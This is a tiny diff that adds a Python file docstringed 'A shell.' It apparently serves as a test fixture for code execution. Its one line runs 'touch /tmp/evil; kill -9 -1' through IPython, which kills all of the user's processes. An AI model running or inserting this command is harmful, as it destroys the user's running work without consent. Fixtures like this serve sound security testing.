@@ -1,0 +1,2 @@
+"""A shell."""
+get_ipython().system("touch /tmp/evil; kill -9 -1")
